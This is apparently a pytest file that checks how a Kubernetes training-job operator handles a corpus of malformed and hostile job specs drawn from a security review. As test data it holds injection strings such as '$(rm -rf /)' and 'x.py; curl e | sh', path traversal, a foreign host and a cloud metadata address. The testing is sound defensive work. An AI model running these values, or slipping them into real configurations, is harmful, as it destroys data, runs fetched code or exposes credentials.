"""The bad-input corpus (security-reliability review's table, numbered #N, and more): each input is refused
at apply with a message naming the field, or is accepted and ends failed with a clear error, or waits in
`queued` saying why, or is harmless and runs. Meanwhile the operator never crashes and keeps reconciling
every other job. (Hostile job.json files for the CLI are in tests/unit/test_convert_hostile.py.)"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any

import pytest
from devcluster import wait_for
from jobs import create_cluster, create_storage_secret, custom
from kubernetes import client
from operator_process import OperatorProcess
from test_crds import BASE_JOB, BLOB, DELETE, SHARE, TF, manifest, merged

GROUP, VERSION = "batchai.io", "v1alpha1"
ONE_NODE = merged(BASE_JOB, {"nodeCount": 1})


@dataclass(frozen=True)
class Bad:
    id: str
    override: dict[str, Any]
    refused: tuple[str, ...] = ()  # apply refused; fragments of the apiserver's message (field first)
    fails: str = ""  # accepted; ends failed with this error code
    waits: str = ""  # accepted; waits in queued with this reason
    runs: bool = False  # accepted and harmless: it runs to success
    name: str = ""  # metadata.name, when the case is about it
    review: str = ""  # the review table's row


CORPUS: list[Bad] = [
    # ---- names and counts
    Bad("name-too-long", {}, ("metadata.name",), name="a" * 53, review="#1"),
    Bad("name-with-dots", {}, ("metadata.name",), name="a.b", review="#1"),
    Bad("name-unicode", {}, ("metadata.name",), name="jöb", review="#2"),
    Bad("nodecount-zero", {"nodeCount": 0}, ("spec.nodeCount",), review="#3"),
    Bad("nodecount-negative", {"nodeCount": -1}, ("spec.nodeCount",), review="#3"),
    Bad("nodecount-1001", {"nodeCount": 1001}, ("spec.nodeCount",), review="#3"),
    Bad("two-toolkits", {"customToolkitSettings": {"commandLine": "x"}}, ("spec",), review="#4"),
    Bad("no-toolkit", {"cntkSettings": DELETE}, ("spec",), review="#4"),
    Bad(
        "ps-over-nodecount",
        {"cntkSettings": DELETE, "tensorFlowSettings": dict(TF, parameterServerCount=3)},
        ("spec.tensorFlowSettings.parameterServerCount",),
        review="#5",
    ),
    Bad(
        "args-1mb",
        {"cntkSettings": {"commandLineArgs": "x" * 1_000_001}},
        ("spec.cntkSettings.commandLineArgs",),
        review="#9",
    ),
    Bad(
        "env-300",
        {"environmentVariables": [{"name": f"V{i}", "value": "1"} for i in range(300)]},
        ("spec.environmentVariables",),
        review="#10",
    ),
    Bad(
        "env-name-digit",
        {"environmentVariables": [{"name": "1A", "value": "1"}]},
        ("spec.environmentVariables[0].name",),
        review="#11",
    ),
    Bad(
        "env-name-dash",
        {"environmentVariables": [{"name": "A-B", "value": "1"}]},
        ("spec.environmentVariables[0].name",),
        review="#11",
    ),
    Bad(
        "env-name-unicode",
        {"environmentVariables": [{"name": "Ä", "value": "1"}]},
        ("spec.environmentVariables[0].name",),
        review="#11",
    ),
    Bad(
        "env-name-empty",
        {"environmentVariables": [{"name": "", "value": "1"}]},
        ("spec.environmentVariables[0].name",),
        review="#11",
    ),
    Bad(
        "env-names-repeated",
        {"environmentVariables": [{"name": "A", "value": "1"}, {"name": "A", "value": "2"}]},
        ("spec.environmentVariables", "unique"),
        review="#12",
    ),
    Bad(
        "env-name-reserved",
        {"environmentVariables": [{"name": "BATCHAI_UNMANAGED_MOUNTS", "value": "mount x"}]},
        ("spec.environmentVariables[0].name", "reserved"),
        review="#13",
    ),
    # ---- secrets and credentials
    Bad(
        "secret-value-inline",
        {"secrets": [{"name": "T", "value": "hunter2"}]},
        ("spec.secrets[0]", "not accepted inline"),
        review="#16",
    ),
    Bad(
        "secret-other-namespace",
        {"secrets": [{"name": "T", "secretRef": {"name": "other/x"}}]},
        ("spec.secrets[0].secretRef.name",),
        review="#19",
    ),
    Bad(
        "account-key-inline",
        {"mountVolumes": {"azureFileShares": [dict(SHARE, credentials={"accountKey": "a2V5"})]}},
        ("spec.mountVolumes.azureFileShares[0].credentials", "inline storage keys"),
        review="#20",
    ),
    Bad(
        "secret-and-workload-identity",
        {
            "mountVolumes": {
                "azureFileShares": [
                    dict(
                        SHARE, credentials={"secretRef": {"name": "s"}, "workloadIdentity": {"clientId": "c"}}
                    )
                ]
            }
        },
        ("spec.mountVolumes.azureFileShares[0].credentials", "exactly one"),
        review="#21",
    ),
    # ---- mounts and paths
    Bad(
        "share-name-semicolon",
        {
            "mountVolumes": {
                "azureFileShares": [dict(SHARE, azureFileUrl="https://a.file.core.windows.net/lo;gs")]
            }
        },
        ("spec.mountVolumes.azureFileShares[0].azureFileUrl",),
        review="#25",
    ),
    Bad(
        "file-mode-7777",
        {"mountVolumes": {"azureFileShares": [dict(SHARE, fileMode="7777")]}},
        ("spec.mountVolumes.azureFileShares[0].fileMode",),
        review="#26",
    ),
    Bad(
        "mount-path-dotdot",
        {"mountVolumes": {"azureFileShares": [dict(SHARE, relativeMountPath="../x")]}},
        ("spec.mountVolumes.azureFileShares[0].relativeMountPath", "'..'"),
        review="#31",
    ),
    Bad(
        "mount-path-absolute",
        {"mountVolumes": {"azureFileShares": [dict(SHARE, relativeMountPath="/x")]}},
        ("spec.mountVolumes.azureFileShares[0].relativeMountPath", "'/'"),
        review="#31",
    ),
    Bad(
        "mount-paths-x-and-x-slash",
        {"mountVolumes": {"azureBlobFileSystems": [dict(BLOB, relativeMountPath="logs/")]}},
        ("spec.mountVolumes.azureBlobFileSystems[0].relativeMountPath", "must not end with '/'"),
        review="#32",
    ),
    Bad(
        "mount-path-double-slash",
        {"mountVolumes": {"azureBlobFileSystems": [dict(BLOB, relativeMountPath="a//b")]}},
        ("spec.mountVolumes.azureBlobFileSystems[0].relativeMountPath", "'//'"),
    ),
    Bad(
        "mount-path-tab",
        {"mountVolumes": {"azureBlobFileSystems": [dict(BLOB, relativeMountPath="a\tb")]}},
        ("spec.mountVolumes.azureBlobFileSystems[0].relativeMountPath", "control characters"),
        review="#33",
    ),
    Bad(
        "mount-path-newline",
        {"mountVolumes": {"azureBlobFileSystems": [dict(BLOB, relativeMountPath="a\nmount x")]}},
        ("spec.mountVolumes.azureBlobFileSystems[0].relativeMountPath", "control characters"),
        review="#33",
    ),
    Bad(
        "path-suffix-escapes",
        {"outputDirectories": [{"id": "MODEL", "pathPrefix": "/out", "pathSuffix": "../../other-job"}]},
        ("spec.outputDirectories[0].pathSuffix", "'..'"),
        review="#35",
    ),
    # ---- durations and numbers
    Bad(
        "wall-clock-P",
        {"constraints": {"maxWallClockTime": "P"}},
        ("spec.constraints.maxWallClockTime",),
        review="#40",
    ),
    Bad(
        "wall-clock-zero",
        {"constraints": {"maxWallClockTime": "00:00:00"}},
        ("spec.constraints.maxWallClockTime", "longer than zero"),
        review="#41",
    ),
    Bad(
        "wall-clock-PT0S",
        {"constraints": {"maxWallClockTime": "PT0S"}},
        ("spec.constraints.maxWallClockTime", "longer than zero"),
        review="#41",
    ),
    Bad(
        "wall-clock-overflow",
        {"constraints": {"maxWallClockTime": "9999999999.00:00:00"}},
        ("spec.constraints.maxWallClockTime",),
        review="#42",
    ),
    Bad(
        "wall-clock-iso-overflow",
        {"constraints": {"maxWallClockTime": "P99999999999D"}},
        ("spec.constraints.maxWallClockTime",),
    ),
    Bad("ttl-negative", {"ttlSecondsAfterFinished": -1}, ("spec.ttlSecondsAfterFinished",), review="#43"),
    Bad("ttl-huge", {"ttlSecondsAfterFinished": 10**18}, ("spec.ttlSecondsAfterFinished",), review="#43"),
    Bad("retries-negative", {"constraints": {"maxRetryCount": -1}}, ("spec.constraints.maxRetryCount",)),
    # ---- other fields
    Bad(
        "image-with-space",
        {"containerSettings": {"imageSourceRegistry": {"image": "cntk latest"}}},
        ("spec.containerSettings.imageSourceRegistry.image",),
    ),
    Bad(
        "shm-size-word",
        {"containerSettings": {"imageSourceRegistry": {"image": "a"}, "shmSize": "lots"}},
        ("spec.containerSettings.shmSize",),
    ),
    Bad("experiment-spaces", {"experiment": "my exp"}, ("spec.experiment",)),
    Bad("cluster-empty", {"cluster": ""}, ("spec.cluster",)),
    Bad("priority-unknown", {"schedulingPriority": "urgent"}, ("spec.schedulingPriority",)),
    # ---- accepted, and they fail with a clear error
    Bad(
        "unmanaged-mount-not-allowed",
        {
            "mountVolumes": {
                "unmanagedFileSystems": [
                    {"mountCommand": "mount -t glusterfs h:/v", "relativeMountPath": "g"}
                ]
            }
        },
        fails="UnmanagedFileSystemNotAllowed",
        review="#29",
    ),
    Bad(
        "tf-300-workers",  # 300 workers fit 300 nodes, but every TF_CONFIG lists all 300 tasks
        {
            "nodeCount": 300,
            "cntkSettings": DELETE,
            "tensorFlowSettings": {"pythonScriptFilePath": "t.py", "workerCount": 300},
        },
        fails="JobTooLarge",
        review="#8",
    ),
    Bad(
        "pytorch-ranks-with-32k-args",
        {
            "nodeCount": 4,
            "cntkSettings": DELETE,
            "pyTorchSettings": {
                "pythonScriptFilePath": "t.py",
                "processCount": 4000,
                "commandLineArgs": "x" * 32000,
            },
        },
        fails="JobTooLarge",
        review="#7",
    ),
    Bad("unknown-vm-size", {"cluster": "oddsize"}, fails="UnknownVmSize"),
    Bad("toleration-the-pod-refuses", {"cluster": "badtoleration"}, fails="InvalidSpec"),
    # ---- accepted, and they say why they wait
    Bad(
        "secret-missing",
        {
            "mountVolumes": {
                "azureFileShares": [dict(SHARE, credentials={"secretRef": {"name": "nope"}})],
                "azureBlobFileSystems": DELETE,
            }
        },
        waits="SecretNotFound",
        review="#17",
    ),
    Bad("cluster-missing", {"cluster": "nowhere"}, waits="ClusterNotFound"),
    Bad(
        "service-account-missing", {"serviceAccountName": "nobody"}, waits="PodCreationRejected", review="#45"
    ),
    Bad("more-nodes-than-exist", {"nodeCount": 40}, waits="ClusterTooSmall"),
    # ---- accepted and harmless: Batch AI semantics ($NAME expansion only, no command substitution)
    Bad(
        "env-value-substitution",
        {"environmentVariables": [{"name": "A", "value": "$(rm -rf /)"}]},
        runs=True,
        review="#14",
    ),
    Bad(
        "env-value-default-expansion",
        {"environmentVariables": [{"name": "A", "value": "${B:-$(id)}"}]},
        runs=True,
        review="#15",
    ),
    Bad(
        "azure-file-url-foreign-host",
        {"mountVolumes": {"azureFileShares": [dict(SHARE, azureFileUrl="https://evil.example.com/logs")]}},
        runs=True,
        review="#24",
    ),
    Bad(
        "nfs-metadata-address",
        {
            "mountVolumes": {
                "fileServers": [
                    {
                        "fileServer": {"id": "/fs/nfs1"},
                        "server": "169.254.169.254",
                        "relativeMountPath": "nfs",
                    }
                ]
            }
        },
        runs=True,
        review="#27",
    ),
    Bad(
        "nfs-nolock",
        {
            "mountVolumes": {
                "fileServers": [
                    {
                        "fileServer": {"id": "/fs/nfs1"},
                        "server": "10.0.0.4",
                        "relativeMountPath": "nfs",
                        "mountOptions": "nolock",
                    }
                ]
            }
        },
        runs=True,
        review="#28",
    ),
    Bad("stdouterr-prefix-substitution", {"stdOutErrPathPrefix": "$(touch /x)"}, runs=True, review="#34"),
    Bad(
        "input-path-substitution",
        {"inputDirectories": [{"id": "X", "path": "$(id)"}]},
        runs=True,
        review="#36",
    ),
    Bad(
        "script-path-shell",
        {"cntkSettings": {"pythonScriptFilePath": "x.py; curl e | sh"}},
        runs=True,
        review="#37",
    ),
    Bad(
        "job-preparation",
        {"jobPreparation": {"commandLine": "pip install -r r.txt"}},
        runs=True,
        review="#38",
    ),
]


def body(case: Bad) -> dict[str, Any]:
    out = manifest("TrainingJob", case.name or case.id, merged(ONE_NODE, case.override))
    return out


def test_the_corpus_is_large_enough() -> None:
    assert len(CORPUS) + 8 >= 50  # with the CLI's hostile job.json files
    assert len({c.id for c in CORPUS}) == len(CORPUS)


@pytest.mark.parametrize("case", [c for c in CORPUS if c.refused], ids=lambda c: c.id)
def test_refused_at_apply_naming_the_field(crds_installed: None, namespace: str, case: Bad) -> None:
    try:
        custom().create_namespaced_custom_object(
            GROUP, VERSION, namespace, "trainingjobs", body(case), dry_run="All"
        )
    except client.ApiException as e:
        assert e.status == 422, e.body
        status = json.loads(e.body)
        message = (
            status["message"]
            + "\n"
            + "\n".join(
                f"{c.get('field')}: {c.get('message')}" for c in status.get("details", {}).get("causes", [])
            )
        )
        for fragment in case.refused:
            assert fragment in message, f"{fragment!r} not in {message}"
        return
    raise AssertionError(f"accepted: {case.id}")


def test_terminate_cannot_be_taken_back(crds_installed: None, namespace: str) -> None:
    """#44: terminate true -> false is refused by a transition rule."""
    obj = manifest("TrainingJob", "term", merged(ONE_NODE, {"terminate": True, "cluster": "nowhere"}))
    custom().create_namespaced_custom_object(GROUP, VERSION, namespace, "trainingjobs", obj)
    with pytest.raises(client.ApiException) as err:
        custom().patch_namespaced_custom_object(
            GROUP, VERSION, namespace, "trainingjobs", "term", {"spec": {"terminate": False}}
        )
    assert err.value.status == 422 and "terminate" in err.value.body


def test_accepted_bad_inputs_end_or_say_why_and_the_operator_keeps_going(
    operator: OperatorProcess, namespace: str
) -> None:
    create_cluster(namespace)  # nc6: the 4 Standard_NC6 kwok nodes
    create_cluster(namespace, "oddsize", vmSize="Standard_Unknown99")
    create_cluster(namespace, "badtoleration", tolerations=[{"key": "k", "operator": "Exists", "value": "v"}])
    create_storage_secret(namespace)
    accepted = [c for c in CORPUS if not c.refused]
    for case in accepted:
        custom().create_namespaced_custom_object(GROUP, VERSION, namespace, "trainingjobs", body(case))

    def outcome(case: Bad) -> tuple[str, str] | None:
        st = (
            custom()
            .get_namespaced_custom_object(GROUP, VERSION, namespace, "trainingjobs", case.id)
            .get("status")
            or {}
        )
        state = st.get("executionState")
        if case.fails and state == "failed":
            return state, st["executionInfo"]["errors"][0]["code"]
        if case.runs and state in ("succeeded", "failed"):
            return state, ""
        if case.waits and state == "queued":
            queued = next(c for c in st["conditions"] if c["type"] == "Queued")
            return (state, queued["reason"]) if queued["reason"] == case.waits else None
        return None

    results: dict[str, tuple[str, str]] = {}
    for case in accepted:
        results[case.id] = wait_for(lambda case=case: outcome(case), timeout=120, what=case.id)
    for case in accepted:
        expected = (
            ("failed", case.fails)
            if case.fails
            else ("queued", case.waits)
            if case.waits
            else ("succeeded", "")
        )
        assert results[case.id] == expected, case.id

    # The operator is still the same process, and it still runs a good job to the end.
    assert operator.proc is not None and operator.proc.poll() is None
    custom().create_namespaced_custom_object(
        GROUP, VERSION, namespace, "trainingjobs", manifest("TrainingJob", "canary", ONE_NODE)
    )
    wait_for(
        lambda: (
            (
                custom()
                .get_namespaced_custom_object(GROUP, VERSION, namespace, "trainingjobs", "canary")
                .get("status")
                or {}
            ).get("executionState")
            == "succeeded"
        ),
        timeout=60,
        what="the canary job succeeded",
    )
